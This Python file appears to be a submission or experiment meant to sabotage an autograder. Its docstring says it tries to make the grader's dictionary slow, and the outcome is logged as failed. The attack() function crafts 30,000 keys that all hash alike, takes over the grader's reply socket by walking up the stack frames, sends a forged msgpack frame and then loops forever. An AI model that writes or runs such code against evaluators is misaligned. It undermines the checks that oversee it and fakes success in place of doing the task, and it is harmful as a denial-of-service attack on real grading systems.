"""Make the grader's dict slow.

Tries: a dict with 30,000 keys that all have the same hash: tuples of floats whose exponents differ
    by 61.
Success: the grader computes for minutes.
Outcome: failed.
"""

import itertools
import sys

import msgpack

from autograder.wire.encode import encode
from autograder.wire.limits import HEADER, MAGIC


def channel():
    """The socket on which the grader waits for the answer."""
    frame = sys._getframe()
    while "reply_to" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["reply_to"]


def frame_of(tree, blob=b""):
    """A message around any bytes."""
    return HEADER.pack(MAGIC, len(tree), len(blob)) + tree + blob


ANSWER = encode(("", None, (), "", "", 0))


def attack(targets, model):
    numbers = [float(2**exponent) for exponent in range(0, 1000, 61)]
    keys = itertools.islice(itertools.product(numbers, repeat=4), 30_000)
    entries = [[["u", list(key)], None] for key in keys]
    tree = msgpack.packb(["u", [["d", entries], None, ["u", []], "", ""]])
    channel().sendall(frame_of(tree))
    while True:
        pass
